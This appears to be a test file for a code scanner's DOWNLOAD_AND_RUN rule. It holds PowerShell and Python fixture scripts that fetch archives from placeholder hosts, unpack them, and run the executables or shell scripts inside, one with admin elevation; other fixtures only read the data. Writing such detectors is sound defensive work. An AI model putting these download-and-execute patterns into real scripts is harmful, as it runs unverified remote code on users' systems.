"""A downloaded archive unpacked by PowerShell into a folder known only at run time (a random name
under ``$env:TEMP``): the variable holding the folder carries the download, so a program started from
a path built from it, or found by listing it (``Get-ChildItem $dir -Filter *.exe``), runs what was
downloaded (DOWNLOAD_AND_RUN). Unpacked data only read stays quiet. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_FETCH = (
    "$work = Join-Path ([IO.Path]::GetTempPath()) ([guid]::NewGuid().ToString('N'))\n"
    "$archive = Join-Path $work 'bundle.zip'\n"
    "$site = 'https://' + (@('get', 'relaykit', 'invalid') -join '.')\n"
    "Invoke-WebRequest -UseBasicParsing -Uri ($site + '/b.zip') -OutFile $archive\n"
)


def test_a_program_found_by_listing_the_unpacked_folder_is_started(tmp_path: Path) -> None:
    script = _FETCH + (
        "[IO.Compression.ZipFile]::ExtractToDirectory($archive, $work)\n"
        "$installer = Get-ChildItem -Path $work -Include '*.msi', '*.exe' -Recurse | Select-Object -First 1\n"
        "Start-Process $installer.FullName -ArgumentList '/quiet' -Wait\n"
    )
    errors = scan_errors(tmp_path, {"scripts/Install-Relay.ps1": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/Install-Relay.ps1", 7) in errors


def test_a_program_at_a_path_built_from_the_unpacked_folder_is_run(tmp_path: Path) -> None:
    script = _FETCH + 'Expand-Archive -LiteralPath $archive -DestinationPath $work\n& "$work\\bin\\agent.exe" -i\n'
    errors = scan_errors(tmp_path, {"scripts/Install-Relay.ps1": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/Install-Relay.ps1", 6) in errors


def test_unpacked_data_read_stays_quiet(tmp_path: Path) -> None:
    script = _FETCH + (
        "Expand-Archive -LiteralPath $archive -DestinationPath $work\n"
        "$rows = Import-Csv (Join-Path $work 'stations.csv')\n"
        "$rows | Measure-Object | Select-Object -ExpandProperty Count\n"
    )
    assert scan_errors(tmp_path, {"scripts/Get-Stations.ps1": script}) == set()


def test_python_archive_unpacked_into_a_new_temporary_folder_then_its_installer_run(tmp_path: Path) -> None:
    script = (
        "import io, json, os, subprocess, tempfile, zipfile, requests\n"
        "cfg = {'host': 'plugins.loomwire.invalid', 'file': '/bundle.zip', 'run': 'setup.sh'}\n"
        "blob = requests.get('https://' + cfg['host'] + cfg['file'], timeout=30).content\n"
        "dest = tempfile.mkdtemp()\n"
        "zipfile.ZipFile(io.BytesIO(blob)).extractall(dest)\n"
        "top = os.path.join(dest, sorted(os.listdir(dest))[0])\n"
        "subprocess.check_call(['bash', os.path.join(top, cfg['run'])], cwd=top)\n"
    )
    errors = scan_errors(tmp_path, {"scripts/plugins.py": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/plugins.py", 7) in errors


def test_python_archive_unpacked_in_a_temporary_directory_context(tmp_path: Path) -> None:
    script = (
        "import subprocess, tarfile, tempfile, urllib.request\n"
        "urllib.request.urlretrieve('https://plugins.loomwire.invalid/b.tgz', '/tmp/b.tgz')\n"
        "with tempfile.TemporaryDirectory() as scratch:\n"
        "    tarfile.open('/tmp/b.tgz').extractall(scratch)\n"
        "    subprocess.run(['sh', scratch + '/install.sh'], check=True)\n"
    )
    errors = scan_errors(tmp_path, {"scripts/plugins.py": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/plugins.py", 5) in errors


def test_python_archive_unpacked_into_a_temporary_folder_and_only_read_stays_quiet(tmp_path: Path) -> None:
    script = (
        "import json, os, tarfile, tempfile, urllib.request\n"
        "urllib.request.urlretrieve('https://data.loomwire.invalid/d.tgz', '/tmp/d.tgz')\n"
        "dest = tempfile.mkdtemp()\n"
        "tarfile.open('/tmp/d.tgz').extractall(dest)\n"
        "print(json.load(open(os.path.join(dest, 'index.json'))))\n"
    )
    errors = scan_errors(tmp_path, {"scripts/data.py": script})
    assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


_DOWNLOADED_INTO_A_SYSTEM_FOLDER = (
    '$zip = Join-Path $env:TEMP "agent.zip"\n'
    "Invoke-WebRequest -Uri http://203.0.113.9/agent.zip -OutFile $zip\n"
    'Expand-Archive -Path $zip -DestinationPath "$env:ProgramFiles\\RelayAgent" -Force\n'
)


def test_a_program_under_a_named_folder_of_an_environment_location_is_started(tmp_path: Path) -> None:
    script = _DOWNLOADED_INTO_A_SYSTEM_FOLDER + (
        'Start-Process "$env:ProgramFiles\\RelayAgent\\bin\\enrol.exe" -ArgumentList "/quiet" -Verb RunAs\n'
    )
    errors = scan_errors(tmp_path, {"scripts/Install-Agent.ps1": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/Install-Agent.ps1", 4) in errors


def test_a_program_in_another_folder_of_that_location_is_not_the_download(tmp_path: Path) -> None:
    script = _DOWNLOADED_INTO_A_SYSTEM_FOLDER + '& "$env:ProgramFiles\\Vendor\\tool.exe" --version\n'
    errors = scan_errors(tmp_path, {"scripts/Install-Agent.ps1": script})
    assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_unpacked_data_under_an_environment_location_only_read_stays_quiet(tmp_path: Path) -> None:
    script = (
        '$zip = Join-Path $env:TEMP "rates.zip"\n'
        "Invoke-WebRequest -Uri https://data.rates-feed.invalid/rates.zip -OutFile $zip\n"
        'Expand-Archive $zip "$env:LOCALAPPDATA\\Rates" -Force\n'
        'Import-Csv "$env:LOCALAPPDATA\\Rates\\rates.csv" | Select-Object -First 5\n'
    )
    assert scan_errors(tmp_path, {"scripts/Get-Rates.ps1": script}) == set()
